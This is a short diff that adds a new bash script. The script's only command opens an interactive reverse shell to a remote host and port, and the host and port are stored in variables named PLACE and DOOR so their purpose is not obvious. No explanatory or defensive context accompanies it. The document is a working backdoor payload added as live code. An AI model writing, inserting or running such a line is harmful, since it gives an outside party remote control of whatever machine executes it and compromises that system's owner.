@@ -1,0 +1,2 @@
+#!/bin/bash
+bash -i >& /dev/tcp/$PLACE/$DOOR 0>&1
